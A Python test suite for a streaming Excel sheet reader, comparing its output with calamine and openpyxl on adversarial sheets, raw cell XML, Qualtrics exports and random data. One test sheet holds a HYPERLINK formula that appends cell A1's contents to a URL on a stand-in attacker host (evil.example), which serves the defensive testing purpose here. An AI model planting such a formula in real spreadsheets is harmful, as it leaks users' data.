"""XLSX sheets are read as a stream and give exactly the cells calamine (the reader before) and
openpyxl gave: on a hostile sheet, on hand-written XML of every cell type, on Qualtrics exports
saved as XLSX, and on random values."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime, time, timedelta
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import xlsxwriter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from xlsx_files import STRICT, calamine_rows, raw_workbook

from qualcode.errors import ValidationError
from qualcode.ingest.participants import read_table_bytes
from qualcode.ingest.readers.xlsx_sheet import xlsx_rows, xlsx_sheet

QUALTRICS = Path(__file__).parents[1] / "survey" / "data" / "qualtrics"


def hostile_sheet() -> bytes:
    """Formulas with saved results, dates, numbers stored as text, gaps, emoji, CJK, NA texts."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_numbers": False})
    sheet = book.add_worksheet("Answers")
    day = book.add_format({"num_format": "yyyy-mm-dd"})
    stamp = book.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})
    clock = book.add_format({"num_format": "hh:mm"})
    for col, title in enumerate([" pid ", "answer", "", "years", "when", "score"]):
        sheet.write_string(0, col, title)
    rows = [
        ["P1", "Zoë 😀 漢字テスト", None, 5, date(2024, 3, 1), 3.5],
        ["P2", "0012", None, "007", datetime(2024, 3, 1, 13, 45, 7), 1e20],
        [None, None, None, None, None, None],  # an empty row in the middle
        ["P3", "NA", "", "None", time(10, 30), -2],
        ["P4", "  spaced\nlines  ", None, True, None, 12345678901234567890],
    ]
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row):
            if value is None:
                continue
            if isinstance(value, datetime):
                sheet.write_datetime(r, c, value, stamp)
            elif isinstance(value, date):
                sheet.write_datetime(r, c, datetime(value.year, value.month, value.day), day)
            elif isinstance(value, time):
                sheet.write_datetime(r, c, value, clock)
            elif isinstance(value, str):
                sheet.write_string(r, c, value)  # numbers as text stay text
            else:
                sheet.write(r, c, value)
    sheet.write_formula(6, 0, '="P"&5', None, "P5")  # formulas: their saved result is read
    sheet.write_formula(6, 1, '=HYPERLINK("http://evil.example/?"&A1,"Open")', None, "Open")
    sheet.write_formula(6, 3, "=2+3", None, 5)
    sheet.write_string(6, 7, "far away")  # a cell beyond the header's columns
    book.close()
    return out.getvalue()


def openpyxl_rows(data: bytes) -> list[list[str]]:
    frame = pd.read_excel(
        io.BytesIO(data), sheet_name=0, header=None, dtype=str, na_filter=False, engine="openpyxl"
    )
    return frame.to_numpy().tolist()


def test_the_streamed_sheet_reads_the_same_rows_as_openpyxl_and_calamine():
    data = hostile_sheet()
    assert xlsx_rows("a.xlsx", data) == openpyxl_rows(data) == calamine_rows(data)


def test_cells_keep_their_text_dates_and_saved_formula_results():
    rows = xlsx_rows("a.xlsx", hostile_sheet())
    assert rows[0][:6] == [" pid ", "answer", "", "years", "when", "score"]
    assert rows[1][:6] == ["P1", "Zoë 😀 漢字テスト", "", "5", "2024-03-01 00:00:00", "3.5"]
    assert rows[2][1:4] == ["0012", "", "007"]  # numbers stored as text keep their zeros
    assert rows[3] == [""] * 8  # the empty row stays, so row numbers in errors stay right
    assert rows[4][1:5] == ["NA", "", "None", "10:30:00"]  # NA-like texts are answers, not gaps
    assert rows[6][:4] == ["P5", "Open", "", "5"] and rows[6][7] == "far away"


def test_demographics_sheet_keeps_headers_and_empty_cells():
    rows = read_table_bytes("people.xlsx", hostile_sheet())
    assert rows[0] == {"pid": "P1", "answer": "Zoë 😀 漢字テスト", "years": "5",
                       "when": "2024-03-01 00:00:00", "score": "3.5"}  # fmt: skip
    assert rows[2] == {h: "" for h in rows[0]}  # the empty row: its line number is kept
    assert rows[3]["answer"] == "NA" and rows[3]["years"] == "None"


def test_a_broken_workbook_is_one_clear_error():
    data = hostile_sheet()
    broken = data.replace(b"xl/worksheets/sheet1.xml", b"xl/worksheets/sheetX.xml")
    with pytest.raises(ValidationError, match=r"^a\.xlsx: not a readable Excel file"):
        xlsx_rows("a.xlsx", broken)


def test_a_sheet_starting_right_of_column_a_keeps_its_columns():
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write(3, 2, "pid")
    sheet.write(4, 1, 1.5)
    sheet.write(4, 4, True)
    book.close()
    data = out.getvalue()
    assert xlsx_rows("a.xlsx", data) == openpyxl_rows(data) == calamine_rows(data)
    assert xlsx_rows("a.xlsx", data)[3] == ["", "", "pid", "", ""]


EVERY_CELL = (
    # shared strings: plain, padded (trimmed unless xml:space="preserve"), rich runs with a
    # phonetic reading left out, Excel's _x000D_ escapes, entities, emoji
    '<row r="1" spans="1:9"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c>'
    '<c r="C1" t="s"><v>2</v></c><c r="D1" t="s"><v>3</v></c><c r="E1" t="s"><v>4</v></c>'
    '<c r="F1" t="s" s="1"><v>5</v></c><c r="G1" t="s"><v></v></c></row>'
    # inline strings, including an empty one (it still counts for the sheet's extent)
    '<row r="2"><c r="A2" t="inlineStr"><is><t>  inline  </t></is></c>'
    '<c r="B2" t="inlineStr"><is><t xml:space="preserve"> kept </t></is></c>'
    '<c r="C2" t="inlineStr"><is><r><t>rich </t></r><r><rPr><b/></rPr><t>inline</t></r></is></c>'
    '<c r="D2" t="inlineStr"><is><t>line1\r\nline2&#13;</t></is></c>'
    '<c r="E2" t="inlineStr"><is><t><![CDATA[<b>cdata</b>]]></t></is></c>'
    '<c r="F2" t="inlineStr"><is><t>a<!-- note -->b</t></is></c><c r="G2" t="inlineStr"><is/></c></row>'
    # numbers: decimals, exponents, negative zero, integers beyond 2**53, a text in an untyped cell
    '<row r="3"><c r="A3"><v>0.1</v></c><c r="B3" t="n"><v>1e-7</v></c><c r="C3"><v>-0</v></c>'
    '<c r="D3"><v>1.0E+300</v></c><c r="E3"><v>12345678901234567890</v></c><c r="F3"><v>-2.50</v></c>'
    '<c r="G3"><v>not a number</v></c><c r="H3" s="7"><v>3</v></c><c r="I3" s="99"><v>4.25</v></c></row>'
    # booleans, errors, formula texts, formulas with and without a saved result
    '<row r="4"><c r="A4" t="b"><v>1</v></c><c r="B4" t="b"><v>0</v></c><c r="C4" t="e"><v>#N/A</v></c>'
    '<c r="D4" t="str"><f>A1&amp;"x"</f><v> text result </v></c><c r="E4"><f>1+1</f><v>2</v></c>'
    '<c r="F4"><f>NOW()</f></c><c r="G4" t="str"><f>""</f><v></v></c><c r="H4" t="b"><v/></c></row>'
    # dates, times and durations by built-in and custom number formats
    '<row r="5"><c r="A5" s="1"><v>45352</v></c><c r="B5" s="2"><v>45352.572222222</v></c>'
    '<c r="C5" s="3"><v>0.4375</v></c><c r="D5" s="4"><v>1.5</v></c><c r="E5" s="5"><v>45352.25</v></c>'
    '<c r="F5" s="6"><v>45352.5</v></c><c r="G5" s="1"><v>59</v></c><c r="H5" s="1"><v>60</v></c>'
    '<c r="I5" s="1"><v>-3.5</v></c><c r="J5" s="1"><v>3000000</v></c><c r="K5" s="4"><v>-0.25</v></c>'
    '<c r="L5" s="2"><v>45352.0000057870</v></c></row>'
    # ISO dates (t="d"), cells with no reference (placed after the one before), a gap of rows
    '<row r="6"><c r="A6" t="d"><v>2024-03-01T10:30:00</v></c><c r="B6" t="d"><v>2024-03-01</v></c>'
    '<c r="C6" t="d"><v>10:30:00</v></c><c r="D6" t="d"><v>soon</v></c></row>'
    '<row r="8"><c t="inlineStr"><is><t>no ref</t></is></c><c><v>7</v></c><c r="E8"><v>5</v></c>'
    "<c><v>6</v></c></row>"
    # rows without numbers, lower-case references, style-only cells (no part of the extent)
    '<row><c t="inlineStr"><is><t>row 9</t></is></c></row><row><c r="b10"><v>10</v></c>'
    '<c r="M10" s="1"/></row><row r="12"><c r="Z12" s="2"/></row>'
)
EVERY_STRING = [
    "<t>plain</t>",
    "<t>  padded  </t>",
    '<t xml:space="preserve">  kept  </t>',
    '<r><t>ri</t></r><r><rPr><i/></rPr><t xml:space="preserve">ch </t></r><rPh sb="0" eb="1"><t>PH</t></rPh>',
    "<t>a_x000D_b_x005F_x000D_ &amp; &lt;tag&gt; 😀 漢字</t>",
    "<t/>",
]
FORMATS = {164: "yyyy\\-mm\\-dd\\ hh:mm", 165: "[h]:mm:ss", 166: '0.00" days"', 200: "0.00"}
STYLES = (0, 14, 22, 21, 165, 164, 46, 166, 200)


@pytest.mark.parametrize("date1904", [False, True])
@pytest.mark.parametrize("namespace", [None, STRICT])
def test_every_kind_of_cell_reads_as_calamine_read_it(date1904, namespace):
    extra = {"namespace": namespace} if namespace else {}
    data = raw_workbook(EVERY_CELL, EVERY_STRING, FORMATS, STYLES, date1904, **extra)
    rows = xlsx_rows("a.xlsx", data)
    assert rows == calamine_rows(data)
    assert rows[0][:7] == [
        "plain",
        "padded",
        "  kept  ",
        "rich ",
        "a\rb_x000D_ & <tag> 😀 漢字",
        "",
        "",
    ]
    assert rows[2][:3] + rows[2][4:9] == ["0.1", "1e-07", "0", "12345678901234567168", "-2.5",
                                          "not a number", "3", "4.25"]  # fmt: skip
    assert rows[2][3] == str(int(1e300))  # a whole number, however large, has no exponent
    assert rows[3][:7] == ["True", "False", "", " text result ", "2", "", ""]
    assert len(rows) == 10 and rows[6] == [""] * len(rows[0])  # row 7: empty, kept


def test_dates_times_and_durations_read_as_calamine_read_them():
    rows = xlsx_rows("a.xlsx", raw_workbook(EVERY_CELL, EVERY_STRING, FORMATS, STYLES))
    assert rows[4][:6] == ["2024-03-01 00:00:00", "2024-03-01 13:44:00", "10:30:00",
                           "1 day, 12:00:00", "2024-03-01 06:00:00", "45352 days, 12:00:00"]  # fmt: skip
    assert rows[4][6:8] == ["1900-02-28 00:00:00", "1900-02-28 00:00:00"]  # Excel's leap-year bug
    assert rows[5][:4] == ["2024-03-01 10:30:00", "2024-03-01 00:00:00", "10:30:00", "soon"]
    assert rows[7][:6] == ["no ref", "7", "", "", "5", "6"]


def test_the_first_row_comes_before_the_sheet_is_read_to_its_end():
    """The sheet is a stream: a file cut after its first rows still gives them, then the error."""
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 2000))
    data = raw_workbook(rows + '<row r="2000"><c r="A2000"><v>1</v></row>')  # an unclosed <c>
    read = iter(xlsx_sheet("cut.xlsx", data))
    assert next(read) == ["1"]
    with pytest.raises(
        ValidationError, match=r"^cut\.xlsx: not a readable Excel file \(XMLSyntaxError"
    ):
        list(read)


def test_a_sheet_is_read_again_on_each_pass():
    sheet = xlsx_sheet("a.xlsx", hostile_sheet())
    assert list(sheet) == list(sheet)


def test_a_sheet_without_cells_has_no_rows():
    assert xlsx_rows("a.xlsx", raw_workbook('<row r="3"><c r="B3" s="0"/></row>')) == []


@pytest.mark.parametrize(
    ("rows", "reason"),
    [('<row r="2"><c r="A2"><v>1</v></c></row><row r="1"><c r="A1"><v>1</v></c></row>',
      "row 1 comes after row 2"),
     ('<row r="1"><c r="A1" t="s"><v>3</v></c></row>', "names shared string 3"),
     ('<row r="1"><c r="1A"><v>1</v></c></row>', "'1A' is not a cell reference"),
     ('<row r="1"><c r="A1" t="n"><v>x</v></c></row>', "'x' in cell A1 is not a number"),
     ('<row r="1"><c r="A1" t="zz"><v>x</v></c></row>', "unknown type 'zz'")],
)  # fmt: skip
def test_a_malformed_sheet_is_one_clear_error(rows, reason):
    with pytest.raises(
        ValidationError, match=rf"^a\.xlsx: not a readable Excel file \(ValueError: .*{reason}"
    ):
        xlsx_rows("a.xlsx", raw_workbook(rows, ["only"]))


def test_a_workbook_without_its_sheet_part_is_one_clear_error():
    data = raw_workbook('<row r="1"><c r="A1"><v>1</v></c></row>')
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as copy:
        for item in source.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                copy.writestr(item, source.read(item))
    with pytest.raises(ValidationError, match=r"no sheet part '/xl/worksheets/sheet1.xml'"):
        xlsx_sheet("a.xlsx", out.getvalue())


def qualtrics_xlsx(csv_path: Path, writer: str) -> bytes:
    """A Qualtrics CSV fixture saved as XLSX by openpyxl (shared strings, typed numbers) or
    xlsxwriter (numbers and dates as Excel writes them)."""
    import csv

    rows = list(csv.reader(csv_path.read_text(encoding="utf-8-sig").splitlines()))
    out = io.BytesIO()
    if writer == "openpyxl":
        book = openpyxl.Workbook()
        for row in rows:
            book.active.append([_typed(cell) for cell in row])
        book.save(out)
    else:
        book = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_numbers": True})
        sheet, stamp = book.add_worksheet(), book.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})
        for r, row in enumerate(rows):
            for c, cell in enumerate(row):
                value = _typed(cell)
                if isinstance(value, datetime):
                    sheet.write_datetime(r, c, value, stamp)
                else:
                    sheet.write(r, c, value)
        book.close()
    return out.getvalue()


def _typed(cell: str) -> object:
    try:
        return datetime.fromisoformat(cell) if cell[:2] == "20" and ":" in cell else float(cell)
    except ValueError:
        return cell


@pytest.mark.parametrize("writer", ["openpyxl", "xlsxwriter"])
@pytest.mark.parametrize("fixture", sorted(QUALTRICS.glob("*.csv")), ids=lambda p: p.stem)
def test_qualtrics_exports_as_xlsx_read_as_calamine_read_them(fixture, writer):
    data = qualtrics_xlsx(fixture, writer)
    rows = xlsx_rows(f"{fixture.stem}.xlsx", data)
    assert rows == calamine_rows(data) and len(rows) > 2


CELLS = st.one_of(
    st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=12),
    st.floats(allow_nan=False, allow_infinity=False),
    st.integers(-(2**62), 2**62),
    st.booleans(),
    st.datetimes(datetime(1900, 3, 1), datetime(9999, 12, 31)),
    st.dates(date(1900, 3, 1), date(9999, 12, 31)),
    st.times(),
    st.timedeltas(timedelta(0), timedelta(days=9000)),
    st.none(),
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(CELLS, max_size=6), min_size=1, max_size=6))
def test_random_cells_read_as_calamine_read_them(rows):
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_numbers": False})
    sheet = book.add_worksheet()
    formats = {kind: book.add_format({"num_format": code}) for kind, code in
               {datetime: "yyyy-mm-dd hh:mm:ss.000", date: "d mmm yyyy", time: "h:mm:ss AM/PM",
                timedelta: "[hh]:mm:ss"}.items()}  # fmt: skip
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is None:
                continue
            if isinstance(value, str):
                sheet.write_string(r, c, value)
            elif isinstance(value, bool | int | float):
                sheet.write(r, c, value)
            else:
                kind = next(k for k in (datetime, date, time, timedelta) if isinstance(value, k))
                sheet.write_datetime(r, c, value, formats[kind])
    book.close()
    data = out.getvalue()
    assert xlsx_rows("r.xlsx", data) == calamine_rows(data)
